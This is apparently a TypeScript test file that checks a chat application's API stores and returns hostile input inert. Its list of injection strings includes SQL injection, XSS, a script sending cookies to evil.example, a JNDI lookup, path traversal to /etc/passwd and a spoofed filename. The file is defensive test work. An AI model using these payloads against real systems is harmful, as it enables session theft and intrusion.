import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestSystem, type ApiClient, type TestSystem } from '../../src/testing/test-system';

const HOSTILE = [
  "'; DROP TABLE events; --",
  "Robert'); DELETE FROM users WHERE ('1'='1",
  '<img src=x onerror=alert(1)>',
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '\u202Egnp.exe',
];

describe('injection strings are stored as they were typed and come back inert', () => {
  let t: TestSystem;
  let emma: ApiClient;
  let general: string;
  beforeAll(async () => {
    t = await startTestSystem();
    emma = await t.login('emma@demo.local');
    general = ((await emma.get('/api/channels')).body.items as { id: string; name: string }[]).find((c) => c.name === 'general')!.id;
    await emma.command('JoinChannel', { channelId: general });
  });
  afterAll(async () => t?.close());

  it('message bodies: the database is untouched and the API answers the same text, as JSON', async () => {
    const ids: string[] = [];
    for (const body of HOSTILE) {
      const messageId = randomUUID();
      expect((await emma.command('PostMessage', { channelId: general, messageId, body })).status).toBe(200);
      ids.push(messageId);
    }
    const answer = await emma.get(`/api/channels/${general}/messages?limit=200`);
    expect(answer.headers.get('content-type')).toMatch(/^application\/json/);
    const byId = new Map((answer.body.items as { id: string; body: string }[]).map((m) => [m.id, m.body]));
    expect(ids.map((id) => byId.get(id))).toEqual(HOSTILE.map((s) => s.trim()));
    expect((await emma.get('/api/users')).body.items.length).toBeGreaterThan(0); // still there
  });

  it('a channel name made of hostile text is refused or normalized, never executed', async () => {
    for (const name of HOSTILE) {
      const answer = await emma.command('CreateChannel', { channelId: randomUUID(), name, visibility: 'public' });
      expect([200, 400, 409]).toContain(answer.status);
      if (answer.status === 200) {
        const channel = await emma.get(`/api/channels/${answer.body.channelId ?? ''}`);
        if (channel.status === 200) expect(channel.body.name).toMatch(/^[a-z0-9-]+$/);
      }
    }
  });

  it('an attachment named with a path traversal is stored under its id and downloaded as a file', async () => {
    const form = new FormData();
    form.append('file', new Blob(['<html><script>alert(1)</script></html>'], { type: 'text/html' }), '../../../etc/passwd<script>.html');
    const upload = await fetch(`${t.url}/api/attachments`, { method: 'POST', headers: { authorization: `Bearer ${emma.token}` }, body: form });
    expect(upload.status).toBe(200);
    const attachment = (await upload.json()) as { id: string; name: string };
    expect(attachment.name).not.toContain('/');
    const download = await fetch(`${t.url}/api/attachments/${attachment.id}`, { headers: { authorization: `Bearer ${emma.token}` } });
    // not attached to a message yet: only its uploader may fetch it, and then never inline as HTML
    if (download.status === 200) {
      expect(download.headers.get('content-disposition')).toMatch(/^attachment/);
      expect(download.headers.get('x-content-type-options')).toBe('nosniff');
      expect(download.headers.get('content-type')).not.toMatch(/text\/html/);
    } else expect(download.status).toBe(404);
    const messageId = randomUUID();
    expect((await emma.command('PostMessage', { channelId: general, messageId, body: 'see file', attachmentIds: [attachment.id] })).status).toBe(200);
    const attached = await emma.get(`/api/attachments/${attachment.id}`); // waits for the message to be read
    expect(attached.status).toBe(200);
    expect(attached.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(attached.headers.get('x-content-type-options')).toBe('nosniff');
    expect(attached.headers.get('content-security-policy')).toMatch(/sandbox/);
  });
});
